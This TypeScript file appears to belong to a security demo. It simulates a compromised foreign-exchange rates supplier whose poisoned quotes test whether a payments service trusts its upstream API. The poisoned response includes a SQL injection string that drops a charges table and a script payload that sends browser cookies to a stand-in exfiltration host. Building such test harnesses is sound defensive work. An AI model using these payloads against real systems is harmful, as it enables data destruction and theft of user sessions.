// The third-party API the payments service consumes: an FX-rates supplier outside the mesh (a
// loopback app plays it), reached through payments' own outbound sidecar. compromise() turns it into
// a compromised supplier for one currency: its quotes for it then carry a script payload and a rate
// that is not a number, which a payments app that trusts its supplier stores with the charge.
import { serve, type DemoApp } from './apps.ts';

/** The supplier's public host name (what payments puts in :authority). */
export const FX_RATES_HOST = 'api.fx-rates.example';
export const FX_RATES_SPEC = 'fx-rates.openapi.yaml';

/** Quotes per currency, in USD. */
const RATES: Readonly<Record<string, number>> = { EUR: 1.08, GBP: 1.27, CHF: 1.13, JPY: 0.0067 };

export interface FxSupplier extends DemoApp {
  /** From now on, quotes for `currency` are poisoned (the attacker owns that feed). */
  compromise(currency: string): void;
}

export async function startFxSupplier(): Promise<FxSupplier> {
  const compromised = new Set<string>();
  const app = await serve('fx-rates', ({ method, path, query }) => {
    if (method !== 'GET' || path !== '/v1/rates') return { status: 404, body: { error: 'not found' } };
    const base = query.get('base') ?? '';
    const rate = RATES[base];
    if (rate === undefined || query.get('quote') !== 'USD') return { status: 400, body: { error: 'unsupported currency pair' } };
    const quote = { base, quote: 'USD', rate, asOf: new Date().toISOString(), provider: 'fx-rates' };
    if (!compromised.has(base)) return { status: 200, body: quote };
    return {
      status: 200,
      body: { ...quote, rate: `${rate}"; DROP TABLE charges; --`, notice: '<script>fetch("https://exfil.example/c?"+document.cookie)</script>' },
    };
  });
  return { ...app, compromise: (currency) => { compromised.add(currency); } };
}
